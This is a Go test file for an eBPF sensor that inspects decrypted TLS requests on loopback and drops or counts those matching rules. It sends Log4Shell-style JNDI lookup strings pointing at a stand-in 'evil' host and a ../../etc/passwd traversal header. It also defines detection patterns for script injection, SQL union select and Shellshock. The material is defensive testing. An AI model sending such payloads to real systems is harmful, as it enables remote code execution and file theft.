package tls

import (
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/cilium/ebpf"
	"golang.org/x/sys/unix"

	"github.com/apiwarden/apiwarden/datapath/enforce"
)

const (
	ruleJNDI  = 7 // drop
	ruleTrav  = 8 // count
	jndiLabel = "${jndi:"
)

// enforceRig is a sensor sharing an enforcer's maps, the enforcer attached
// to lo, and the enforcer's events.
type enforceRig struct {
	e      *enforce.Enforcer
	s      *Sensor
	mu     sync.Mutex
	events []enforce.Event
}

func newEnforceRig(t *testing.T) *enforceRig {
	t.Helper()
	requireRoot(t)
	log := slog.New(slog.NewTextHandler(os.Stderr, &slog.HandlerOptions{Level: slog.LevelWarn}))
	e, err := enforce.New(log)
	if err != nil {
		t.Fatalf("new enforcer: %v", err)
	}
	t.Cleanup(func() { e.Close() })
	r := &enforceRig{e: e}
	r.s, _ = startSensorCfg(t, Config{Enforce: e})
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() {
		done <- e.Run(ctx, func(ev enforce.Event) {
			r.mu.Lock()
			r.events = append(r.events, ev)
			r.mu.Unlock()
		})
	}()
	t.Cleanup(func() { cancel(); <-done })
	return r
}

// arm loads the test rules, scoped to the test server's port so nothing
// else on the shared loopback can match, and attaches TC to lo.
func (r *enforceRig) arm(t *testing.T, port int) {
	t.Helper()
	err := r.e.SetRules([]enforce.Rule{
		{ID: ruleJNDI, Port: uint16(port), Kind: enforce.KindLiteral, Pattern: jndiLabel, Action: enforce.ActionDrop},
		{ID: ruleTrav, Port: uint16(port), Kind: enforce.KindLiteral, Pattern: "../../", Action: enforce.ActionCount},
	})
	if err != nil {
		t.Fatal(err)
	}
	lo, err := net.InterfaceByName("lo")
	if err != nil {
		t.Fatal(err)
	}
	if err := r.e.Attach(lo.Index); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { r.e.Detach(lo.Index) })
}

func (r *enforceRig) eventsOf(client netip.AddrPort) []enforce.Event {
	r.mu.Lock()
	defer r.mu.Unlock()
	var out []enforce.Event
	for _, ev := range r.events {
		if ev.Client == client {
			out = append(out, ev)
		}
	}
	return out
}

// flagTime returns the kernel time the flow was flagged, or 0.
func (r *enforceRig) flagTime(client, server netip.AddrPort) (time.Duration, uint32, uint32) {
	var k tlsBpfFlowKey
	k.Family = unix.AF_INET
	a, b := client.Addr().As4(), server.Addr().As4()
	copy(k.Saddr[:], a[:])
	copy(k.Daddr[:], b[:])
	k.Sport, k.Dport = client.Port(), server.Port()
	var f tlsBpfEnforceFlag
	if err := r.s.objs.FlaggedFlows.Lookup(&k, &f); err != nil {
		return 0, 0, 0
	}
	return time.Duration(f.TsNs), f.RuleId, f.Reason
}

func monoNow() time.Duration {
	var ts unix.Timespec
	_ = unix.ClockGettime(unix.CLOCK_MONOTONIC, &ts)
	return time.Duration(ts.Nano())
}

// exchange sends one request on a fresh TLS connection and returns the
// connection's ends, the monotonic time just before the write, and the
// response bytes read within wait.
func exchange(t *testing.T, port int, req string, wait time.Duration) (client, server netip.AddrPort, t0 time.Duration, resp []byte) {
	t.Helper()
	d := &net.Dialer{Timeout: 3 * time.Second}
	c, err := tls.DialWithDialer(d, "tcp", fmt.Sprintf("127.0.0.1:%d", port), &tls.Config{InsecureSkipVerify: true})
	if err != nil {
		t.Fatalf("dial: %v", err)
	}
	defer c.Close()
	client = c.LocalAddr().(*net.TCPAddr).AddrPort()
	server = c.RemoteAddr().(*net.TCPAddr).AddrPort()
	client = netip.AddrPortFrom(client.Addr().Unmap(), client.Port())
	server = netip.AddrPortFrom(server.Addr().Unmap(), server.Port())
	t0 = monoNow()
	if _, err := io.WriteString(c, req); err != nil {
		t.Fatalf("write: %v", err)
	}
	c.SetReadDeadline(time.Now().Add(wait))
	buf := make([]byte, 4096)
	for {
		n, err := c.Read(buf)
		resp = append(resp, buf[:n]...)
		if err != nil || strings.Contains(string(resp), "\r\n\r\n") && strings.HasSuffix(string(resp), "01234") {
			if err != nil && !errors.Is(err, os.ErrDeadlineExceeded) && !errors.Is(err, io.EOF) {
				t.Logf("read: %v", err)
			}
			return
		}
	}
}

func TestEnforceTLSRequests(t *testing.T) {
	requireRoot(t)
	for _, kind := range []string{"openssl", "go"} {
		t.Run(kind, func(t *testing.T) {
			r := newEnforceRig(t)
			var port int
			switch kind {
			case "openssl":
				port = startThreadedPyServer(t)
			case "go":
				dir := t.TempDir()
				bin := filepath.Join(dir, "awtlsenf-gotls")
				buildGo(t, bin)
				cert, key := writeCert(t, dir)
				port = freePort(t)
				srv := exec.Command(bin, "-mode=server", fmt.Sprintf("-addr=127.0.0.1:%d", port), "-cert="+cert, "-key="+key)
				srv.Stderr = os.Stderr
				if err := srv.Start(); err != nil {
					t.Fatal(err)
				}
				t.Cleanup(func() { srv.Process.Kill(); srv.Wait() })
				if err := r.s.AttachPID(srv.Process.Pid); err != nil {
					t.Fatal(err)
				}
				waitPort(t, port)
			}
			r.arm(t, port)

			// Benign: answered, not flagged, no event.
			c, s, _, resp := exchange(t, port, "GET /size/5 HTTP/1.1\r\nHost: x\r\n\r\n", 3*time.Second)
			if !strings.HasPrefix(string(resp), "HTTP/1.1 200") {
				t.Fatalf("benign request: response %q", resp)
			}
			if ts, _, _ := r.flagTime(c, s); ts != 0 || r.e.IsFlagged(c, s) {
				t.Errorf("benign request flagged")
			}

			// Count rule: answered, reported, not flagged.
			c, s, _, resp = exchange(t, port, "GET /size/5 HTTP/1.1\r\nHost: x\r\nX-File: ../../etc/passwd\r\n\r\n", 3*time.Second)
			if !strings.HasPrefix(string(resp), "HTTP/1.1 200") {
				t.Fatalf("counted request: response %q", resp)
			}
			if !waitFor(t, 2*time.Second, func() bool { return len(r.eventsOf(c)) > 0 }) {
				t.Fatalf("no event for the counted request")
			}
			if ev := r.eventsOf(c)[0]; ev.RuleID != ruleTrav || ev.Action != enforce.ActionCount || ev.Server != s {
				t.Errorf("counted request event %+v", ev)
			}
			if r.e.IsFlagged(c, s) {
				t.Errorf("counted request flagged")
			}

			// A service in monitor mode (port override): the drop rule
			// only counts.
			if err := r.e.SetPortModes(map[uint16]enforce.Action{uint16(port): enforce.ActionCount}); err != nil {
				t.Fatal(err)
			}
			c, s, _, resp = exchange(t, port, "GET /size/5 HTTP/1.1\r\nHost: x\r\nX-A: ${jndi:ldap://a}\r\n\r\n", 3*time.Second)
			if !strings.HasPrefix(string(resp), "HTTP/1.1 200") || r.e.IsFlagged(c, s) {
				t.Errorf("monitor-mode port: flagged %v, response %q", r.e.IsFlagged(c, s), resp)
			}
			if !waitFor(t, 2*time.Second, func() bool { return len(r.eventsOf(c)) > 0 }) {
				t.Errorf("monitor-mode port: no event")
			} else if ev := r.eventsOf(c)[0]; ev.RuleID != ruleJNDI || ev.Action != enforce.ActionCount {
				t.Errorf("monitor-mode port: event %+v", ev)
			}
			if err := r.e.SetPortModes(nil); err != nil {
				t.Fatal(err)
			}

			// At the bound: a literal ending inside the first
			// ENFORCE_MAX_SCAN bytes matches, one past them does not.
			pad := func(n int) string { return strings.Repeat("a", n) }
			head := "GET /size/5 HTTP/1.1\r\nHost: x\r\nX-Pad: "
			inside := head + pad(512-len(head)-len(jndiLabel)) + jndiLabel + "\r\n\r\n"
			outside := head + pad(512-len(head)-len(jndiLabel)+1) + jndiLabel + "\r\n\r\n"
			c, s, _, resp = exchange(t, port, outside, 3*time.Second)
			if !strings.HasPrefix(string(resp), "HTTP/1.1 200") || r.e.IsFlagged(c, s) {
				t.Errorf("literal past the scan window: flagged %v, response %q", r.e.IsFlagged(c, s), resp)
			}
			c, s, _, resp = exchange(t, port, inside, 500*time.Millisecond)
			if len(resp) != 0 || !r.e.IsFlagged(c, s) {
				t.Errorf("literal at the end of the scan window: flagged %v, response %q", r.e.IsFlagged(c, s), resp)
			}

			// Pipelined: a malicious second request behind a benign one.
			// The first may be answered, the second must not be.
			c, s, resp = pipelined(t, port)
			if strings.Count(string(resp), "HTTP/1.1 200") > 1 || !r.e.IsFlagged(c, s) {
				t.Errorf("pipelined malicious request: flagged %v, response %q", r.e.IsFlagged(c, s), resp)
			}

			// More drops, for the request write -> flag latency.
			var lat []time.Duration
			for i := 0; i < 5; i++ {
				c, s, t0, _ := exchange(t, port, "GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: ${JNDI:dns://x}\r\n\r\n", 300*time.Millisecond)
				if ts, _, _ := r.flagTime(c, s); ts != 0 {
					lat = append(lat, ts-t0)
				}
			}
			slices.Sort(lat)
			t.Logf("%s: request write -> flag, 5 samples sorted: %v", kind, lat)

			// Drop rule: flagged before the server can answer, reported,
			// and no response byte reaches the client.
			c, s, t0, resp := exchange(t, port, "GET /size/5 HTTP/1.1\r\nHost: x\r\nX-Api-Version: ${jndi:ldap://evil/a}\r\n\r\n", 1500*time.Millisecond)
			if len(resp) != 0 {
				t.Errorf("client received %d response bytes: %q", len(resp), resp)
			}
			ts, rule, reason := r.flagTime(c, s)
			if ts == 0 {
				t.Fatalf("flow %s->%s not flagged", c, s)
			}
			if rule != ruleJNDI || enforce.Reason(reason) != enforce.ReasonTLSRule {
				t.Errorf("flag rule %d reason %d", rule, reason)
			}
			t.Logf("%s: request write -> flow flagged in %v", kind, ts-t0)
			if !waitFor(t, 2*time.Second, func() bool { return len(r.eventsOf(c)) > 0 }) {
				t.Fatalf("no event for the dropped request")
			}
			ev := r.eventsOf(c)[0]
			if ev.RuleID != ruleJNDI || ev.Action != enforce.ActionDrop || ev.Server != s ||
				!strings.Contains(string(ev.Evidence), jndiLabel) {
				t.Errorf("dropped request event %+v", ev)
			}
			cnt, err := r.e.Counters()
			if err != nil {
				t.Fatal(err)
			}
			if cnt["flagged_packets_dropped_egress"] == 0 {
				t.Errorf("no egress drop counted: %v", cnt)
			}
			t.Logf("%s: counters %v", kind, cnt)
		})
	}
}

// startThreadedPyServer is pyServer with a thread per connection: a
// flagged connection's handler blocks until the socket is aborted (the
// agent's job, not done here), and must not hold up the next connection.
func startThreadedPyServer(t *testing.T) int {
	t.Helper()
	dir := t.TempDir()
	cert, key := writeCert(t, dir)
	script := filepath.Join(dir, "server.py")
	src := strings.Replace(pyServer, "http.server.HTTPServer(", "http.server.ThreadingHTTPServer(", 1)
	if err := os.WriteFile(script, []byte(src), 0o600); err != nil {
		t.Fatal(err)
	}
	port := freePort(t)
	cmd := exec.Command("python3", script, fmt.Sprint(port), cert, key, "1.3")
	cmd.Stderr = os.Stderr
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
	waitPort(t, port)
	return port
}

// TestEnforceTLSCost reports what the rule match adds to a TLS read return
// probe (Go server, keep-alive requests), from the kernel's program run
// statistics, and the verifier's instruction counts. It only reports; run
// with AWTLS_COST=1.
func TestEnforceTLSCost(t *testing.T) {
	requireRoot(t)
	if os.Getenv("AWTLS_COST") == "" {
		t.Skip("set AWTLS_COST=1 to measure the match cost")
	}
	r := newEnforceRig(t)
	for name, p := range map[string]*ebpf.Program{"tls_lib_ret": r.s.objs.TlsLibRet, "tls_go_ret": r.s.objs.TlsGoRet, "tls_go_enter": r.s.objs.TlsGoEnter} {
		info, err := p.Info()
		if err != nil {
			t.Fatal(err)
		}
		n, _ := info.VerifiedInstructions()
		t.Logf("%s: %d verified instructions", name, n)
	}
	stats, err := ebpf.EnableStats(uint32(unix.BPF_STATS_RUN_TIME))
	if err != nil {
		t.Skipf("bpf stats: %v", err)
	}
	defer stats.Close()

	dir := t.TempDir()
	bin := filepath.Join(dir, "awtlsenf-gotls")
	buildGo(t, bin)
	cert, key := writeCert(t, dir)
	port := freePort(t)
	srv := exec.Command(bin, "-mode=server", fmt.Sprintf("-addr=127.0.0.1:%d", port), "-cert="+cert, "-key="+key)
	if err := srv.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { srv.Process.Kill(); srv.Wait() })
	if err := r.s.AttachPID(srv.Process.Pid); err != nil {
		t.Fatal(err)
	}
	waitPort(t, port)

	req := "GET /size/5 HTTP/1.1\r\nHost: api.example.com\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36\r\n" +
		"Accept: application/json\r\nAccept-Language: en-US,en;q=0.9\r\nAuthorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.abcdefghijklmnop\r\nX-Request-Id: 5f0c6a1e-8a4e-4c1b-9d7e-3b2a1c0d9e8f\r\n\r\n"
	const n = 2000
	measure := func() (float64, uint64) {
		c, err := tls.Dial("tcp", fmt.Sprintf("127.0.0.1:%d", port), &tls.Config{InsecureSkipVerify: true})
		if err != nil {
			t.Fatal(err)
		}
		defer c.Close()
		before, _ := r.s.objs.TlsGoRet.Stats()
		buf := make([]byte, 4096)
		for i := 0; i < n; i++ {
			if _, err := io.WriteString(c, req); err != nil {
				t.Fatal(err)
			}
			var got []byte
			for !strings.HasSuffix(string(got), "01234") {
				k, err := c.Read(buf)
				if err != nil {
					t.Fatal(err)
				}
				got = append(got, buf[:k]...)
			}
		}
		after, _ := r.s.objs.TlsGoRet.Stats()
		runs := after.RunCount - before.RunCount
		return float64(after.Runtime-before.Runtime) / float64(max(runs, 1)), runs
	}
	rules := []enforce.Rule{
		{ID: 1, Kind: enforce.KindPrefix, Method: "DELETE", Pattern: "/admin", Action: enforce.ActionDrop},
		{ID: 2, Kind: enforce.KindPrefix, Pattern: "/internal/", Action: enforce.ActionDrop},
		{ID: 3, Kind: enforce.KindLiteral, Pattern: jndiLabel, Action: enforce.ActionDrop},
		{ID: 4, Kind: enforce.KindLiteral, Pattern: "../../", Action: enforce.ActionCount},
		{ID: 5, Kind: enforce.KindLiteral, Pattern: "<script", Action: enforce.ActionDrop},
		{ID: 6, Kind: enforce.KindLiteral, Pattern: "union select", Action: enforce.ActionDrop},
		{ID: 7, Kind: enforce.KindLiteral, Pattern: "/etc/passwd", Action: enforce.ActionDrop},
		{ID: 8, Kind: enforce.KindLiteral, Pattern: "() {", Action: enforce.ActionDrop},
	}
	for round := 0; round < 2; round++ {
		if err := r.e.SetRules(nil); err != nil {
			t.Fatal(err)
		}
		off, runsOff := measure()
		if err := r.e.SetRules(rules); err != nil {
			t.Fatal(err)
		}
		on, runsOn := measure()
		t.Logf("tls_go_ret per read (%d-byte request): no rules %.0f ns (%d runs), %d rules %.0f ns (%d runs)",
			len(req), off, runsOff, len(rules), on, runsOn)
	}
}

// pipelined sends a benign and a malicious request back to back on one
// connection, as two TLS records, and returns what came back within
// 500 ms. Go's server reads the second request's first byte alone (its
// background read while the first handler runs), then the rest.
func pipelined(t *testing.T, port int) (client, server netip.AddrPort, resp []byte) {
	t.Helper()
	c, err := tls.Dial("tcp", fmt.Sprintf("127.0.0.1:%d", port), &tls.Config{InsecureSkipVerify: true})
	if err != nil {
		t.Fatalf("dial: %v", err)
	}
	defer c.Close()
	client = c.LocalAddr().(*net.TCPAddr).AddrPort()
	server = c.RemoteAddr().(*net.TCPAddr).AddrPort()
	io.WriteString(c, "GET /size/5 HTTP/1.1\r\nHost: x\r\n\r\n")
	io.WriteString(c, "GET /size/5 HTTP/1.1\r\nHost: x\r\nReferer: ${jndi:rmi://evil/x}\r\n\r\n")
	c.SetReadDeadline(time.Now().Add(500 * time.Millisecond))
	buf := make([]byte, 4096)
	for {
		n, err := c.Read(buf)
		resp = append(resp, buf[:n]...)
		if err != nil {
			return client, server, resp
		}
	}
}

// TestNoEnforcerMatchesNothing: without an enforcer the sensor's own
// enforcement maps are small, empty and stay so.
func TestNoEnforcerMatchesNothing(t *testing.T) {
	s, _ := startSensor(t)
	if got := s.objs.FlaggedFlows.MaxEntries(); got != idleFlaggedFlows {
		t.Errorf("flagged_flows max entries %d, want %d", got, idleFlaggedFlows)
	}
	port := startThreadedPyServer(t)
	_, _, _, resp := exchange(t, port, "GET /size/5 HTTP/1.1\r\nHost: x\r\nX-A: ${jndi:ldap://a}\r\n\r\n", 3*time.Second)
	if !strings.HasPrefix(string(resp), "HTTP/1.1 200") {
		t.Fatalf("response %q", resp)
	}
	var k tlsBpfFlowKey
	var f tlsBpfEnforceFlag
	if s.objs.FlaggedFlows.Iterate().Next(&k, &f) {
		t.Errorf("flow flagged without an enforcer: %+v", k)
	}
}
